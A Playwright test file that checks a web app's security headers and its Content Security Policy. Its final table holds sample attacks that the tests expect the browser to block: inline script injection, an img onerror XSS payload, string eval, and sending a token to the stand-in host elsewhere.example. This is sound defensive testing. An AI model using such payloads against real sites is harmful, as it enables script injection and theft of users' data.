import { startDevelopment, startStranger, type Running } from './servers.ts'
import {
  conferencesTable,
  connection,
  dialog,
  expect,
  expectRow,
  panelOf,
  participantsTable,
  removeButton,
  rowOf,
  signIn,
  test,
  type Page,
} from './support.ts'

/** The violations that the browser reported, from the first script of the page on: `directive source`. */
async function violationsOf(page: Page): Promise<() => Promise<readonly string[]>> {
  const found: string[] = []
  await page.exposeFunction('reportViolation', (text: string) => found.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report: unknown = Reflect.get(window, 'reportViolation')
      if (typeof report === 'function')
        report(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`)
    })
  })
  return async () => {
    // One round trip: all earlier reports have arrived after it.
    await page.evaluate(() => null)
    return found
  }
}

test('the page, its files and the answers of the API have the headers', async ({ request }) => {
  for (const path of [
    '/',
    '/conferences/x',
    '/theme-init.js',
    '/config.json',
    '/ping',
    '/v1.0/me',
  ]) {
    const headers = (await request.get(path)).headers()
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
      'content-security-policy': expect.stringMatching(
        /default-src 'none'.*script-src 'self';.*trusted-types 'none'.*frame-ancestors 'none'/,
      ),
    })
  }
})

test('a main journey breaks no rule of the policy', async ({ page, context, newTenant }) => {
  const violations = await violationsOf(page)
  const tenant = await newTenant({ push: true, history: 200 })
  await tenant.dialInAll('Ann', 'Bob')
  await signIn(page, tenant)
  await expectRow(conferencesTable(page), { Name: 'Support standup', Joined: '2' })
  await page.goto(tenant.page())
  await expect(connection(page)).toHaveText('Live.')
  await page.getByRole('searchbox', { name: 'Filter participants' }).fill('Ann')
  await rowOf(participantsTable(page), /^Ann/).getByRole('link', { name: 'Ann' }).click()
  await expect(panelOf(page, 'Ann')).toBeVisible()
  await page.keyboard.press('Escape')
  await removeButton(page).click()
  await dialog(page).getByRole('button', { name: 'Remove' }).click()
  await expect(participantsTable(page).getByText('Ann')).toBeHidden()
  const second = await context.newPage()
  const alsoViolations = await violationsOf(second)
  await second.goto(tenant.page())
  await expectRow(participantsTable(second), { Who: /^Bob/, Status: 'joined' })
  await second.goto('/activity')
  const download = second.waitForEvent('download')
  await second.getByRole('button', { name: 'Export CSV' }).click()
  expect((await download).suggestedFilename()).toMatch(/\.csv$/)
  expect([...(await violations()), ...(await alsoViolations())]).toEqual([])
})

test('a page of another origin cannot frame the app', async ({
  page,
  newTenant,
  baseURL,
  pageErrors,
}) => {
  const tenant = await newTenant()
  await signIn(page, tenant)
  const stranger = await startStranger(`<iframe src="${baseURL}/conferences"></iframe>`)
  await page.goto(stranger.origin)
  await expect.poll(() => pageErrors.join()).toContain('frame-ancestors')
  const framed = page.frames().find((frame) => frame !== page.mainFrame())
  expect(await framed?.evaluate(() => document.querySelector('#root'))).toBeFalsy()
  pageErrors.length = 0
  await stranger.close()
})

const inDevelopment = test.extend<{ readonly server: Running }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright wants the pattern
  server: async ({}, provide) => {
    const server = await startDevelopment()
    await provide(server)
    await server.close()
  },
})

inDevelopment(
  'npm run dev has a policy too, and keeps to it',
  async ({ page, request, server }) => {
    // Vite transforms each file at the first request for it.
    test.slow()
    const violations = await violationsOf(page)
    const policy = (await request.get(server.origin)).headers()['content-security-policy']
    expect(policy).toMatch(/script-src 'self' 'nonce-.*frame-ancestors 'none'/)
    await page.goto(server.origin)
    await page.getByRole('button', { name: 'support@rollcall.example' }).click({ timeout: 60_000 })
    await expect(conferencesTable(page)).toBeVisible({ timeout: 60_000 })
    await expect(page.locator('body')).toHaveCSS('margin', '0px')
    expect(await violations()).toEqual([])
  },
)

for (const { name, attack, directive } of [
  {
    name: 'an inline script does not run',
    attack: () => {
      const script = document.createElement('script')
      script.append('window.hacked = true')
      document.head.append(script)
    },
    directive: /^(script-src-elem|require-trusted-types-for) /,
  },
  {
    name: 'an inline handler does not run',
    attack: () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'window.hacked = true')
      document.body.append(button)
      button.click()
    },
    directive: /^(script-src-attr|require-trusted-types-for) /,
  },
  {
    name: 'text is not taken for markup',
    attack: () => {
      document.body.innerHTML = '<img src="x" onerror="window.hacked = true">'
    },
    directive: /^require-trusted-types-for /,
  },
  {
    name: 'text is not taken for code',
    attack: () => {
      // oxlint-disable-next-line no-implied-eval -- that it is refused is what is tested
      setTimeout('window.hacked = true')
    },
    directive: /^(script-src|require-trusted-types-for) /,
  },
  {
    name: 'no policy for trusted types can be made',
    attack: () => {
      const types: unknown = Reflect.get(window, 'trustedTypes')
      if (typeof types !== 'object' || types === null) throw new Error('no Trusted Types')
      const create: unknown = Reflect.get(types, 'createPolicy')
      if (typeof create === 'function') create.call(types, 'mine', { createHTML: String })
    },
    directive: /^trusted-types /,
  },
  {
    name: 'a script of another origin is not loaded',
    attack: () => {
      const script = document.createElement('script')
      script.setAttribute('type', 'module')
      document.head.append(script)
      script.append('import "https://elsewhere.example/x.js"')
    },
    directive: /^(script-src-elem|require-trusted-types-for) /,
  },
  {
    name: 'nothing is sent to another origin',
    attack: () => {
      navigator.sendBeacon('https://elsewhere.example/', 'token')
      void fetch('https://elsewhere.example/').catch(() => {})
      new Image().src = 'https://elsewhere.example/?token'
    },
    directive: /^connect-src https:\/\/elsewhere.example/,
  },
  {
    name: 'no form leads away',
    attack: () => {
      const form = document.createElement('form')
      form.action = 'https://elsewhere.example/'
      document.body.append(form)
      form.submit()
    },
    directive: /^form-action /,
  },
]) {
  test(`the policy holds: ${name}`, async ({ page, pageErrors }) => {
    const violations = await violationsOf(page)
    await page.goto('/')
    await expect(page.getByLabel('Password')).toBeVisible()
    await page.evaluate(attack).catch(() => {})
    await expect.poll(violations).toContainEqual(expect.stringMatching(directive))
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
    // The browser writes each refusal to the console too.
    pageErrors.length = 0
  })
}
